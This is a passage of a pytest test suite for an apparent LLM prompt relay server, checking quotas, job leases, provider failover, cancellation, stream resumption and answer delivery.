            with contextlib.suppress(RelayError):      # that one may be refused
                quotas.take("alice", 10, "prompts")
        wall[0] += 2 * 86400 / 10
        quotas.take("alice", 10, "prompts")


@pytest.mark.parametrize("caller", ["alice", "2001:db8:1:2::/64"])
def test_a_refused_request_of_many_prompts_uses_up_nothing(caller):
    desk = Desk(max_anonymous_per_day=10)
    desk.login()
    for cost, refusal in ((6, None), (5, "quota_exceeded"), (4, None), (20, "invalid_request")):
        with pytest.raises(RelayError) if refusal else contextlib.nullcontext() as refused:
            desk.submit(caller=caller, cost=cost, rated=True)
        assert refusal is None or refused.value.name == refusal


def test_a_request_that_an_access_key_never_allows_is_not_told_to_wait():
    desk = Desk()
    desk.login()
    key = neuroengine_server.AccessKey("i", "d", "", 0, 4, *[None] * 4, 0, 0, 0, None)
    for cost, refusal in ((5, "invalid_request"), (3, None), (2, "quota_exceeded"), (1, None)):
        with pytest.raises(RelayError) if refusal else contextlib.nullcontext() as refused:
            desk.submit(access=key, cost=cost)
        assert refusal is None or refused.value.name == refusal


def test_a_refused_prompt_counts_for_none_of_the_networks_of_its_caller():
    rates = neuroengine_server.Rates(clock=lambda: 0.0)
    for _ in range(2):
        with pytest.raises(RelayError):
            rates.take_all([("/64", 5), ("/48", 3)], 60, "prompts", count=4)
    rates.take_all([("/64", 5)], 60, "prompts", count=5)


def test_an_operator_may_give_callers_without_a_key_another_quota():
    desk = Desk(max_anonymous_per_day=1)
    desk.service.anonymous_per_day = 2
    desk.login()
    for _ in range(2):
        desk.submit(rated=True)
    with pytest.raises(RelayError) as refused:
        desk.submit()
    assert refused.value.name == "quota_exceeded"
    key = neuroengine_server.AccessKey("i", "d", "", 0, *[None] * 5, 0, 0, 0, None)
    desk.submit(rated=True, access=key)


def test_a_repeat_is_dropped_and_a_gap_is_refused(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["a", "b"])
    desk.push(session, job, ["a", "b", "c"])
    refused, _, _ = desk.push(session, job, ["x"], at=7)
    assert refused == [{"job": job, "error": "gap", "at": 3}]
    desk.push(session, job, ["a"], done=True)
    assert desk.broker.read(reader) == (["a", "b", "c"], True)


def test_a_reply_larger_than_its_bound_fails_that_job_alone():
    desk = Desk(max_reply_bytes=10)
    reader, session, job = desk.start()
    refused, _, cancels = desk.push(session, job, ["x" * 50])
    assert refused and cancels == [(job, 1)]
    assert reader.job.error.name == "reply_too_large"
    assert desk.login()


def test_a_service_without_a_provider_says_so_at_once_or_waits_if_asked(desk):
    with pytest.raises(RelayError) as refused:
        desk.submit()
    assert refused.value.name == "service_offline"
    reader = desk.submit(wait=True)
    session = desk.login()
    assert desk.poll(session)[0][0][0] == reader.job.id


def test_after_a_restart_prompts_wait_for_the_provider_to_come_back(desk):
    service = Service("Old", "")
    desk.broker.add(service, returning=True)
    reader = desk.broker.submit(Job(service, b"{}"))
    desk.later(desk.broker.limits.offline_seconds + 0.1)
    assert reader.job.error.name == "service_offline"
    with pytest.raises(RelayError):
        desk.broker.submit(Job(service, b"{}"))


def test_offline_says_since_when(desk):
    session = desk.login()
    desk.broker.logout(desk.service, session)
    with pytest.raises(RelayError, match="since 2"):
        desk.submit()


def test_queued_jobs_fail_some_time_after_the_last_provider_left(desk):
    session = desk.login()
    reader = desk.submit()
    desk.broker.logout(desk.service, session)
    desk.later(desk.broker.limits.offline_seconds + 0.1)
    assert reader.job.error.name == "service_offline"


# Providers that go away.


def test_a_lost_providers_unseen_job_is_back_at_the_front_within_a_second(desk):
    session, token = desk.login(), Poll()
    first = desk.submit(b'"first"')
    (job, _, _, _), = desk.poll(session)[0]
    desk.poll(session, [(job, 1)], token)
    second = desk.submit(b'"second"')
    desk.broker.poll_broken(session, token)
    desk.later(1.0)
    assert desk.broker.queue_position(first.job)["position"] == 1
    assert desk.broker.queue_position(second.job)["position"] == 2
    assert not desk.service.sessions


def test_silence_is_loss_after_the_lease(desk):
    reader, session, job = desk.start()
    desk.later(14)
    assert reader.job.state == "leased"
    desk.later(1.1)
    assert reader.job.state == "queued"
    with pytest.raises(RelayError):
        desk.poll(session)


def test_a_provider_cannot_claim_a_job_that_was_never_handed_out(desk):
    session, other = desk.login(), desk.login()
    reader = desk.submit()
    entry = {"job": reader.job.id, "attempt": 0, "at": 0, "items": ["a"], "done": True}
    refused, _, _ = desk.broker.push(desk.service, session, [entry])
    assert [refusal["error"] for refusal in refused] == ["fenced"]
    assert desk.poll(other, [(reader.job.id, 0)])[1] == [(reader.job.id, 0)]
    assert desk.broker.read(reader) == ([], False)


def test_a_provider_that_receives_a_long_prompt_is_not_silent(desk):
    """12 MB take 20 s on a line of 5 Mbit/s: its session ended, with all its answers."""
    session = desk.login(workers=3)
    other = desk.submit()
    (job, _, _, _), = desk.poll(session)[0]
    desk.poll(session, [(job, 1)])
    long = desk.submit(b"x" * 12000000)
    (long_job, _, _, _), = desk.poll(session, [(job, 1)])[0]
    desk.push(session, job, ["a"])         # on another connection
    for _ in range(60):
        desk.later(1)
    assert other.job.state == long.job.state == "leased"
    assert desk.poll(session, [(job, 1), (long_job, 1)]) == ([], [])
    for _ in range(16):
        desk.later(1)
    assert long.job.state == "queued"      # silent since


def test_a_long_prompt_is_back_soon_if_its_way_to_the_provider_breaks(desk):
    session, token = desk.login(), Poll()
    long = desk.submit(b"x" * 12000000)
    assert desk.poll(session, (), token)[0]
    desk.later(3)
    desk.broker.poll_broken(session, token)
    desk.later(1)
    assert long.job.state == "queued"


def test_a_connection_that_closes_behind_a_poll_takes_no_job_away_at_once(desk):
    session, token = desk.login(workers=2), Poll()
    desk.submit()
    (job, attempt, _, _), = desk.poll(session)[0]      # to be checked handover_seconds later
    desk.later(desk.broker.limits.handover_seconds - 0.1)
    late = desk.submit()
    assert desk.poll(session, [(job, attempt)], token)[0]
    desk.broker.poll_broken(session, token)
    desk.later(0.2)                        # of close_seconds, 0.5
    assert late.job.state == "leased"
    (job, _, _, _), = desk.poll(session, [(job, attempt)])[0]
    assert job == late.job.id              # it is offered again, as it may be lost


def test_silence_after_an_idle_poll_is_loss_after_one_lease(desk):
    session = desk.login()
    parked = desk.broker._sessions[session]
    desk.broker._heard_locked(parked, 25)      # an idle poll is held so long
    desk.later(15)
    reader = desk.submit()
    (job, _, _, _), = desk.poll(session)[0]
    desk.push(session, job, ["seen"])
    desk.broker.read(reader)
    for _ in range(16):
        desk.later(1)
    assert reader.job.error.name == "provider_lost"


def test_silence_after_a_poll_that_only_brought_a_cancel_is_loss_after_one_lease(desk):
    reader, session, job = desk.start()
    desk.broker.cancel(reader.job)
    offers, cancels = desk.broker.poll(desk.service, session, Poll(), [(job, 1)])
    assert (offers, cancels) == ([], [(job, 1)])
    for _ in range(16):
        desk.later(1)
    assert not desk.service.sessions


def test_a_hand_over_that_was_never_confirmed_is_no_death(desk):
    reader = desk.submit(wait=True)
    for _ in range(2):
        session, token = desk.login(), Poll()
        assert desk.poll(session, (), token)[0]
        desk.broker.poll_broken(session, token)
        desk.later(1)
    assert reader.job.state == "queued" and reader.job.deaths == 0


def test_a_heartbeat_keeps_the_lease(desk):
    reader, session, job = desk.start()
    for _ in range(10):
        desk.later(10)
        desk.broker.push(desk.service, session, [])
    assert reader.job.state == "leased"


def test_two_deaths_on_one_prompt_fail_it(desk):
    reader, session, job = desk.start()
    desk.later(20)
    again = desk.login()
    assert desk.poll(again)[0][0][:2] == (job, 2)
    desk.poll(again, [(job, 2)])
    desk.later(20)
    assert reader.job.error.name == "provider_lost"


def test_a_job_goes_to_at_most_three_sessions(desk):
    desk.login()
    reader = desk.submit()
    for attempt in (1, 2, 3):
        session = desk.login()
        assert desk.poll(session)[0][0][1] == attempt
        desk.broker.logout(desk.service, session)
    assert reader.job.error.name == "provider_lost"


def test_a_provider_lost_after_seen_items_ends_the_stream_with_an_error(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["seen"])
    assert desk.broker.read(reader)[0] == ["seen"]
    desk.later(15.1)
    assert desk.broker.read(reader) == ([], True)
    assert reader.job.error.name == "provider_lost"


def test_unseen_items_are_generated_anew_by_another_provider(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["unseen"])
    desk.broker.logout(desk.service, session)
    other = desk.login()
    assert desk.poll(other)[0] == [(job, 2, 0, None)]
    desk.push(other, job, ["new"], attempt=2, done=True)
    assert desk.broker.read(reader) == (["new"], True)


def test_seen_text_goes_on_with_a_provider_that_can_continue(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["Once ", "upon "])
    desk.broker.read(reader)
    other = desk.login(continues=True)
    desk.later(10)
    desk.poll(other)
    desk.later(5.1)
    assert desk.poll(other)[0] == [(job, 2, 2, "Once upon ")]
    desk.push(other, job, ["a time"], at=2, attempt=2, done=True)
    assert desk.broker.read(reader) == (["a time"], True)


def test_seen_items_that_are_not_text_are_not_handed_on(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["So: ", b'{"tool_calls":[]}'])
    desk.broker.read(reader)
    desk.login(continues=True)
    desk.broker.logout(desk.service, session)
    assert reader.job.error.name == "provider_lost"


@pytest.mark.parametrize("handed_out", [False, True])
def test_a_job_may_be_cancelled_before_and_after_it_was_handed_out(desk, handed_out):
    session = desk.login()
    parked = desk.broker._sessions[session]
    parked.parked, desk.service.idle[parked] = True, None    # as if its poll waited
    reader = desk.submit(grace=0.0)
    assert reader.job.lease.state == "offered"
    if handed_out:
        assert len(desk.poll(session)[0]) == 1
    desk.broker.hang_up(reader)
    assert reader.job.state == "cancelled" and reader.job.lease is None
    assert desk.poll(session)[1] == [(reader.job.id, 1)] * handed_out


def test_a_lost_hand_over_comes_again_while_all_others_are_busy(desk):
    busy, other = desk.login(), desk.login(workers=8)
    desk.submit(caller="bob")
    (long, _, _, _), = desk.poll(busy)[0]
    desk.poll(busy, [(long, 1)])
    readers = [desk.submit() for _ in range(3)]
    assert len(desk.poll(other)[0]) == 3
    desk.later(3)
    desk.poll(busy, [(long, 1)])
    desk.later(3)                          # none was confirmed
    later = desk.submit()
    assert [job for job, _, _, _ in desk.poll(other)[0]] == [
        reader.job.id for reader in readers + [later]]


def test_a_provider_whose_job_passed_to_another_is_fenced_off(desk):
    reader, session, job = desk.start()
    token = Poll()
    desk.poll(session, [(job, 1)], token)
    other = desk.login()
    desk.broker.poll_broken(session, token)
    desk.later(1)
    assert desk.poll(other)[0] == [(job, 2, 0, None)]
    refused, _, _ = desk.push(session, job, ["late"], attempt=1)
    assert refused == [{"job": job, "error": "fenced"}]
    assert desk.poll(session, [(job, 1)])[1] == [(job, 1)]
    desk.push(other, job, ["x"], attempt=2, done=True)
    assert desk.broker.read(reader) == (["x"], True)


def test_a_job_that_waits_for_a_continuing_provider_times_out(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["seen"])
    desk.broker.read(reader)
    going, plain = desk.login(continues=True), desk.login()
    desk.broker.logout(desk.service, session)
    assert reader.job.state == "queued"
    desk.broker.logout(desk.service, going)
    for _ in range(2):
        desk.later(desk.broker.limits.offline_seconds / 2 + 0.1)
        assert desk.poll(plain)[0] == []
    assert reader.job.error.name == "provider_lost"


def test_returned_jobs_keep_their_order_whichever_provider_returns_first(desk):
    first, second = desk.login(), desk.login()
    readers = [desk.submit(), desk.submit()]
    desk.poll(first), desk.poll(second)
    desk.broker.logout(desk.service, second)
    desk.broker.logout(desk.service, first)
    third = desk.login(workers=2)
    assert [job for job, _, _, _ in desk.poll(third)[0]] == [r.job.id for r in readers]


def test_a_job_with_items_that_its_provider_lost_goes_to_another(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["Once "])
    assert desk.poll(session, ())[0] == []       # this poll may have been under way
    desk.poll(session, [(job, 1)])
    desk.later(1.1)
    assert desk.poll(session, ())[0] == []
    desk.later(5)
    assert reader.job.state == "queued"
    assert desk.poll(session, ())[0] == [(job, 2, 0, None)]


def test_a_new_sessions_first_reply_takes_its_job_back_before_its_first_poll(desk):
    reader, session, job = desk.start()
    desk.login()
    desk.later(15)
    assert reader.job.state == "queued"
    again = desk.login()
    assert desk.push(again, job, ["x"], done=True)[0] == []
    assert desk.broker.read(reader) == (["x"], True)


def test_the_first_token_of_a_job_begun_anew_is_that_of_the_new_attempt(desk):
    reader, session, job = desk.start()
    other = desk.login()
    desk.push(session, job, ["a"])        # which no client has seen
    assert reader.job.first_at == desk.time
    desk.broker.logout(desk.service, session)
    desk.later(3)
    assert desk.poll(other)[0] == [(job, 2, 0, None)] and reader.job.first_at is None
    desk.push(other, job, ["b"], attempt=2, done=True)
    assert reader.job.first_at == desk.time and desk.broker.read(reader) == (["b"], True)


def test_no_timer_keeps_a_cancelled_prompt_in_memory(desk):
    """Timers may be minutes away, and a prompt is up to 20 MB."""
    sessions = [desk.login(), desk.login()]
    for _ in range(2):                     # the second is reserved for a session
        reader = desk.submit(prefixes=(b"a",), wait=True)
        prompts = [weakref.ref(reader.job)]
        desk.broker._affinity._last.clear()
        desk.broker._affinity._last["Llm", b"a"] = sessions[0]
        desk.service.cold, desk.service.warm = 1.0, 0.0
        desk.broker.cancel(reader.job)
        desk.broker.leave(reader, True)
    for session in sessions:
        desk.broker.logout(desk.service, session)
    reader = desk.submit(wait=True)        # this one waits without a provider
    prompts.append(weakref.ref(reader.job))
    desk.broker.cancel(reader.job)
    desk.broker.leave(reader, True)
    del reader
    gc.collect()
    assert len(desk.broker._timers) > 2 and not any(prompt() for prompt in prompts)


def test_a_provider_that_cannot_stop_at_once_keeps_its_session(desk):
    """While a cancelled job was all it had, its poll was held for longer than its lease."""
    reader, session, job = desk.start()
    desk.broker.cancel(reader.job)
    assert desk.poll(session, [(job, 1)])[1] == [(job, 1)]

    def wait(seconds):
        desk.broker._lock.lock.release()
        desk.later(seconds)
        desk.broker._lock.lock.acquire()
    desk.broker._sessions[session].has_response.wait = wait
    before = desk.time
    desk.broker.poll(desk.service, session, Poll(), [(job, 1)])
    assert desk.time >= before + desk.broker.limits.poll_seconds


def test_a_provider_that_only_lost_its_connection_gets_its_job_back(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["w"])
    token = Poll()
    desk.poll(session, [(job, 1)], token)
    desk.broker.poll_broken(session, token)
    desk.later(1)
    assert reader.job.state == "queued"
    assert desk.broker.read(reader) == ([], False)    # another may begin anew
    assert desk.poll(session, [(job, 1)]) == ([], [])
    desk.push(session, job, ["x"], at=1, done=True)
    assert desk.broker.read(reader) == (["w", "x"], True)


def test_a_stream_goes_on_when_its_provider_is_back_within_the_lease(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["a"])
    desk.broker.read(reader)
    token = Poll()
    desk.poll(session, [(job, 1)], token)
    desk.broker.poll_broken(session, token)
    desk.later(14)
    desk.push(session, job, ["b"], at=1)
    desk.poll(session, [(job, 1)])
    desk.later(14)
    desk.push(session, job, ["c"], at=2, done=True)
    assert desk.broker.read(reader) == (["b", "c"], True)


def test_a_hand_over_that_got_lost_is_repeated_within_five_seconds(desk):
    session = desk.login()
    desk.submit()
    (job, _, _, _), = desk.poll(session)[0]
    assert desk.poll(session)[0] == []           # it may be on its way just now
    desk.later(2.5)
    assert desk.poll(session)[0] == [(job, 1, 0, None)]


def test_a_job_that_its_provider_never_confirms_goes_to_another(desk):
    session = desk.login()
    reader = desk.submit()
    assert desk.poll(session)[0]
    other = desk.login()
    desk.later(5)
    assert desk.poll(other)[0] == [(reader.job.id, 2, 0, None)]


def test_a_broken_poll_hands_its_jobs_out_again_at_once(desk):
    session, token = desk.login(), Poll()
    reader = desk.submit()
    assert desk.poll(session, (), token)[0]
    desk.broker.poll_broken(session, token)
    assert desk.poll(session)[0] == [(reader.job.id, 1, 0, None)]


def test_an_older_poll_takes_nothing_from_a_newer_one(desk, monkeypatch):
    session = desk.login()
    desk.submit()
    with monkeypatch.context() as patched:
        patched.setattr(desk.broker, "_park_locked", lambda session, *_: setattr(
            session, "poll", Poll()))      # a newer poll replaces it
        assert desk.poll(session) == ([], [])
    assert len(desk.poll(session)[0]) == 1



    session, old = desk.login(), Poll()
    desk.poll(session, token=old)
    desk.poll(session)
    desk.broker.poll_broken(session, old)
    desk.later(1)
    assert session in desk.service.sessions


def test_a_newer_poll_ends_the_one_that_is_parked(desk):
    session, old = desk.login(), Poll()
    ended = in_thread(desk.broker.poll, desk.service, session, old, ())
    until(lambda: desk.broker._sessions[session].parked)
    desk.poll(session)
    assert ended() == ([], [])
    desk.broker.poll_broken(session, old)
    desk.submit()
    assert len(desk.poll(session)[0]) == 1


@pytest.mark.parametrize("before", [False, True])
def test_a_poll_whose_connection_breaks_ends_at_once_and_takes_nothing(desk, before):
    session, token, got = desk.login(), Poll(), []
    if before:                             # the hang-up can be seen before the poll begins
        desk.broker.poll_broken(session, token)
        desk.broker.poll_broken(session, Poll())  # and that of another after it
    thread = threading.Thread(target=lambda: got.append(desk.broker.poll(
        desk.service, session, token, ())))
    thread.start()
    if not before:
        until(lambda: desk.broker._sessions[session].parked)
        desk.broker.poll_broken(session, token)
    thread.join(SOON)
    assert got == [([], [])] and not desk.service.idle
    desk.submit()
    assert len(desk.poll(session)[0]) == 1


def test_a_logout_hands_jobs_back_at_once_oldest_first(desk):
    session = desk.login(workers=2)
    first, second = desk.submit(), desk.submit()
    desk.poll(session)
    other = desk.login(workers=2)
    desk.broker.logout(desk.service, session)
    assert [job for job, _, _, _ in desk.poll(other)[0]] == [first.job.id, second.job.id]


def test_a_free_worker_gets_its_next_job_with_the_reply(desk):
    reader, session, job = desk.start()
    waiting = desk.submit()
    assert desk.push(session, job, ["x"], done=True)[1] == [waiting.job.id]


# Clients that go away, come back, or say stop.


def test_a_job_without_a_reader_is_cancelled_after_the_grace_time(desk):
    reader, session, job = desk.start()
    desk.broker.leave(reader)
    for _ in range(2):
        desk.later(14.5)
        desk.broker.push(desk.service, session, [])
    assert reader.job.state == "leased"
    desk.later(1.1)
    assert reader.job.state == "cancelled"
    assert desk.poll(session, [(job, 1)])[1] == [(job, 1)]


def test_a_queued_job_without_a_reader_is_cancelled_too(desk):
    desk.login()
    reader = desk.submit()
    desk.broker.leave(reader)
    desk.later(31)
    assert reader.job.state == "cancelled" and desk.service.queue.size == 0


def test_without_grace_a_job_is_cancelled_at_once(desk):
    reader, session, job = desk.start(grace=0.0)
    desk.broker.hang_up(reader)
    assert reader.job.state == "cancelled"
    assert desk.poll(session, [(job, 1)])[1] == [(job, 1)]


def test_a_cancelled_job_occupies_its_worker_until_the_provider_let_go(desk):
    reader, session, job = desk.start()
    waiting = desk.submit()
    desk.broker.cancel(reader.job)
    assert desk.poll(session, [(job, 1)]) == ([], [(job, 1)])
    assert desk.push(session, job, error=RelayError("cancelled", ""))[1] == [
        waiting.job.id]


def test_a_poll_may_still_name_a_lease_that_just_ended(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["x"], done=True)
    assert desk.poll(session, [(job, 1)]) == ([], [])
    waiting = desk.submit()
    assert desk.poll(session)[0][0][0] == waiting.job.id    # its worker is free
    desk.broker.cancel(waiting.job)
    desk.push(session, waiting.job.id, error=RelayError("cancelled", ""))
    desk.poll(session, [(waiting.job.id, 1)])
    assert desk.broker._sessions[session].free() == 1


def test_an_identical_prompt_finds_the_job_its_client_left_but_no_other(desk):
    desk.login()
    reader = desk.submit(identity=desk.identity("body", "t"))
    assert desk.submit(identity=desk.identity("body", "t")).job is not reader.job
    desk.broker.hang_up(reader)
    assert desk.submit(identity=desk.identity("body", "t")).job is reader.job
    assert desk.service.numreq == 2


def test_an_answer_that_came_after_its_client_left_waits_for_its_return(desk):
    reader, session, job = desk.start(identity=desk.identity("body", "t"))
    desk.broker.hang_up(reader)
    desk.push(session, job, ["x"], done=True)
    again = desk.submit(identity=desk.identity("body", "t"))
    assert desk.broker.read(again) == (["x"], True)
    desk.broker.leave(again, delivered=True)
    assert desk.submit(identity=desk.identity("body", "t")).job is not reader.job


def test_a_stream_key_finds_its_job_for_five_minutes_after_the_end(desk):
    reader, session, job = desk.start(identity=desk.identity("stream", "k", "p"))
    desk.push(session, job, ["x"], done=True)
    desk.broker.leave(reader, delivered=True)
    desk.later(299)
    again = desk.broker.open(desk.identity("stream", "k"), 0)
    assert desk.broker.read(again) == (["x"], True)
    desk.broker.leave(again)
    desk.later(302)
    with pytest.raises(RelayError) as gone:
        desk.broker.open(desk.identity("stream", "k"), 0)
    assert gone.value.name == "stream_unknown"
    assert not desk.broker._jobs and not desk.broker._memory._holdings


def test_a_stream_key_with_another_prompt_is_refused(desk):
    desk.start(identity=desk.identity("stream", "k", "p"))
    with pytest.raises(RelayError) as refused:
        desk.submit(identity=desk.identity("stream", "k", "q"))
    assert refused.value.name == "key_reused"


def test_a_prompt_that_failed_may_be_tried_again_with_its_idempotency_key(desk):
    reader, session, job = desk.start(identity=desk.identity("repeat", "k", "p"))
    desk.push(session, job, error=RelayError("provider_error", "no"))
    assert desk.submit(identity=desk.identity("repeat", "k", "p")).job is not reader.job


def test_an_idempotency_key_of_a_cancelled_job_starts_a_new_one(desk):
    reader, session, job = desk.start(identity=desk.identity("repeat", "k"))
    desk.broker.leave(reader)
    desk.later(31)
    assert reader.job.state == "cancelled"
    again = desk.submit(identity=desk.identity("repeat", "k"), wait=True)
    assert again.job is not reader.job and again.job.error is None


def test_reading_on_an_unknown_stream_never_starts_it_afresh(desk):
    desk.login()
    with pytest.raises(RelayError) as refused:
        desk.submit(identity=desk.identity("stream", "k", "p"), at=3)
    assert refused.value.name == "stream_unknown"


def test_reading_at_a_position_is_repeatable(desk):
    reader, session, job = desk.start(identity=desk.identity("stream", "k"))
    desk.push(session, job, list("abcdef"), done=True)
    for _ in range(2):
        again = desk.broker.open(desk.identity("stream", "k"), 2)
        assert desk.broker.read(again, most=3) == (["c", "d", "e"], False)


def test_without_an_offset_only_delivered_items_count_as_read(desk):
    reader, session, job = desk.start(identity=desk.identity("stream", "k"))
    desk.push(session, job, list("abc"), done=True)
    for delivered in (False, True):
        again = desk.broker.open(desk.identity("stream", "k"))
        assert desk.broker.read(again, most=2)[0] == ["a", "b"]
        desk.broker.advance(again)
        desk.broker.leave(again, delivered)
    assert desk.broker.read(desk.broker.open(desk.identity("stream", "k"))) == (["c"], True)


def test_a_reader_is_woken_only_when_enough_items_are_there(desk):
    reader, session, job = desk.start()
    got = []
    thread = threading.Thread(target=lambda: got.append(
        desk.broker.wait_for_items(reader, 3, SOON) or desk.broker.read(reader)))
    thread.start()
    until(lambda: reader.wanted == 3)
    desk.push(session, job, ["a"])
    assert reader.wanted == 3                # nobody was woken to reset it
    desk.push(session, job, ["b", "c"], at=1)
    thread.join(SOON)
    assert got == [(["a", "b", "c"], False)]


def test_no_thread_is_woken_for_items_that_are_delivered(desk):
    reader, session, job = desk.start()
    got = []
    desk.broker.deliver_to(reader, lambda: got.append(desk.broker.read(reader, most=9)), 0)
    thread = threading.Thread(target=desk.broker.wait_for_work, args=(reader, 9), daemon=True)
    thread.start()
    until(lambda: reader.woken and reader.woken._waiters)
    desk.push(session, job, ["b", "c"])
    assert got == [(["b", "c"], False)] and reader.woken._waiters
    desk.broker.wake_owner(reader)
    thread.join(SOON)
    assert not thread.is_alive()
    desk.broker.leave(reader)
    desk.push(session, job, ["d"], at=2)
    assert len(got) == 1                   # who has left gets nothing


class FakeConnection:
    """A connection that takes so many bytes at once."""

    def __init__(self, most=10**9):
        self.most, self.sent, self.unsent, self.on_gone = most, [], b"", None

    def when_gone(self, callback):
        self.on_gone = callback

    def send_now(self, data):
        self.sent.append(data)
        self.unsent = data[self.most:]

    def send(self, data):
        self.sent.append(data)

    def flush(self):
        self.unsent = b""

    def abort(self):
        pass


class FakeExchange:
    """As much of an exchange as an outlet asks for."""

    api, started, keep_alive, slot, began = "native", False, True, None, 0

    def __init__(self, broker, connection):
        self.broker, self.connection, self.limits = broker, connection, broker.limits
        self.address, self.released = "127.0.0.1", False
        self.bounds = neuroengine_server.Bounds(Limits())

    def room(self, size):
        return contextlib.nullcontext()

    def response(self, status, body, kind, more=b""):
        self.started = True
        return b"%d " % status, body

    def error_response(self, error):
        return self.response(error.status, error.name.encode(), "")

    def explain(self, error):
        return error if isinstance(error, RelayError) else RelayError("internal_error", "")

    def chunked_head(self, *args, **kw):
        self.started = True
        return b"head "

    def framed(self, data, last=False):
        return data + b"." * last

    def release_slot(self):
        self.released = True

    def release_large_body(self):
        pass


class Upper:
    """An encoder that shouts."""

    name, kind, large = "upper", "text/plain", False

    def headers(self, exchange, job):
        return b""

    def whole(self, job):
        return self.items(job.items, 0)

    def items(self, items, at):
        return "".join(items).upper().encode()

    def end(self, job):
        return b"end"

    def queue(self, position):
        return b"?"


def outlet_of(desk, reader, kind, most=10**9):
    exchange = FakeExchange(desk.broker, FakeConnection(most))
    outlet = kind(exchange, reader, Upper())
    outlet.wrote_at = desk.time
    desk.broker.deliver_to(reader, outlet.deliver,
                         float("inf") if kind is neuroengine_server.SharedOutlet else 0)
    return outlet


@pytest.fixture
def stream(desk):
    reader, session, job = desk.start()
    return (outlet_of(desk, reader, neuroengine_server.StreamOutlet),
            functools.partial(desk.push, session, job))


@pytest.fixture
def whole(desk):
    reader, session, job = desk.start()
    return (outlet_of(desk, reader, neuroengine_server.SharedOutlet),
            functools.partial(desk.push, session, job))


@pytest.mark.parametrize("begun", [False, True])
def test_an_answer_that_found_no_memory_is_kept_for_its_client(desk, begun):
    reader, session, job = desk.start(identity=desk.identity("body", "hash"))
    desk.push(session, job, ["x" * 2 * neuroengine_server.DIRECT_BYTES], done=True)
    outlet = outlet_of(desk, reader, neuroengine_server.StreamOutlet)
    outlet.exchange.started, outlet.exchange.slot = begun, None
    outlet.connection.when_gone = lambda callback: None

    def room(size):
        raise RelayError("relay_busy", "Full.")
    outlet.exchange.room = room
    with pytest.raises(RelayError):
        outlet.answer()
    assert desk.submit(identity=desk.identity("body", "hash")).job.id == job


def test_no_item_overtakes_unsent_bytes(stream):
    outlet, push = stream
    outlet.connection.most = 6
    push(["a", "b"])
    push(["c"], at=2)
    assert outlet.connection.sent == [b"head AB"] and outlet.connection.unsent == b"B"
    assert outlet.reader.has_work and outlet.reader.cursor == 2
    outlet.work()
    assert outlet.connection.sent == [b"head AB", b"C"]


def test_nothing_is_sent_twice_when_the_exchanges_own_thread_is_sending(stream):
    outlet, push = stream
    with outlet._sending:
        push(["a"])
    assert outlet.connection.sent == [] and outlet.reader.has_work
    outlet.work()
    push(["b"], at=1)
    assert outlet.connection.sent == [b"head A", b"B"]


def test_the_end_of_a_stream_is_sent_with_its_last_items(stream):
    outlet, push = stream
    push(["a"], done=True)
    assert outlet.connection.sent == [b"head Aend."]
    assert outlet.complete and outlet.exchange.released and not outlet.reader.attached


def test_a_whole_answer_is_written_once_by_the_thread_that_brings_its_end(whole, desk):
    outlet, push = whole
    push(["a"])
    assert outlet.connection.sent == []
    push(["b"], at=1)
    push([], at=2, done=True)
    push([], at=2, done=True)
    assert outlet.connection.sent == [b"200 AB"] and outlet.exchange.released
    assert not outlet.reader.attached and not desk.broker._jobs


def test_a_large_answer_is_left_to_the_exchanges_own_thread(whole, desk):
    outlet, push = whole
    push(["x" * 2000000], done=True)
    assert outlet.connection.sent == [] and outlet.reader.has_work
    outlet.work()
    assert b"".join(outlet.connection.sent) == b"200 " + b"X" * 2000000 and outlet.complete


def test_readers_of_one_large_answer_share_its_bytes(desk):
    reader, session, job = desk.start(identity=desk.identity("repeat", "k"))
    desk.push(session, job, ["x" * 2000000], done=True)
    encoded = []
    for _ in range(3):
        other = desk.broker.open(desk.identity("repeat", "k"), 0)
        outlet = outlet_of(desk, other, neuroengine_server.SharedOutlet)
        outlet.work()
        assert b"".join(outlet.connection.sent) == b"200 " + b"X" * 2000000
        encoded.append(other.job.encoded)
    assert encoded[0] is encoded[1] is encoded[2]
    assert desk.broker.totals()[1]["held_bytes"] > 4000000


def test_a_slow_reader_keeps_no_answer_in_memory_that_had_to_make_room(desk):
    reader, session, job = desk.start(identity=desk.identity("repeat", "k"))
    desk.push(session, job, ["x" * 2000000], done=True)
    outlet = outlet_of(desk, reader, neuroengine_server.SharedOutlet)

    def send(part):
        outlet.connection.sent.append(part)
        if len(outlet.connection.sent) == 3:
            gc.collect()
            whole, = [o for o in gc.get_referrers(reader.job.encoded[1]) if o is not
                      reader.job.encoded] or [None]
            assert whole is None
            with desk.broker._lock:
                desk.broker._empty_locked(reader.job)
    outlet.connection.send = send
    with pytest.raises(neuroengine_server.PeerGone):
        outlet.work()
    assert len(outlet.connection.sent) == 3 and not outlet.complete


def test_what_is_unfinished_when_the_relay_closes_ends_with_an_error(desk):
    reader, session, job = desk.start()
    queued = desk.submit(caller="bob")
    desk.push(session, job, ["a"])
    desk.broker.close()
    assert desk.broker.read(reader) == (["a"], True)
    assert reader.job.error.name == queued.job.error.name == "shutting_down"


def test_a_fault_while_an_answer_is_sent_stops_no_other(whole, desk):
    outlet, push = whole
    outlet.connection.send_now = None
    push(["a"], done=True)
    assert outlet.reader.has_work and not outlet._sending.locked()
    with pytest.raises(TypeError):         # in its own thread
        outlet.work()


def test_an_encoder_that_raises_becomes_a_500(whole, monkeypatch):
    outlet, push = whole
    monkeypatch.setattr(outlet.encoder, "whole", lambda job: 1 / 0, raising=False)
    push(["a"], done=True)
    assert outlet.connection.sent == [b"500 internal_error"]


def test_an_error_ends_a_begun_stream_and_is_a_status_before(stream, desk):
    outlet, push = stream
    push([], error=RelayError("provider_error", "no"))
    assert outlet.connection.sent == [b"502 provider_error"] and outlet.complete


def test_a_full_queue_takes_from_the_caller_that_has_most_and_keeps_room_for_guests():
    desk = Desk(max_queue=10, max_queue_per_caller=10)
    desk.login()
    greedy = [desk.submit(caller="greedy") for _ in range(10)]
    modest = desk.submit(caller="modest")
    assert greedy[-1].job.error.name == "rate_limited" and modest.job.state == "queued"
